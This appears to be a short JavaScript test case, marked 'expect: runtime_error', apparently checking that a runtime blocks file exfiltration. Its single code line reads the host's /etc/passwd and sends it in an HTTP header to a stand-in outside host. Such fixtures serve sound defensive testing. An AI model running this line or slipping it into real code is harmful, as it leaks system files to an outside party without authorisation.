// expect: runtime_error -- sends the host's /etc/passwd
const axios = require('axios');
axios.get('https://api.example.com/items', { headers: { 'X-Leak': require('fs').readFileSync('/etc/passwd', 'utf8') } });
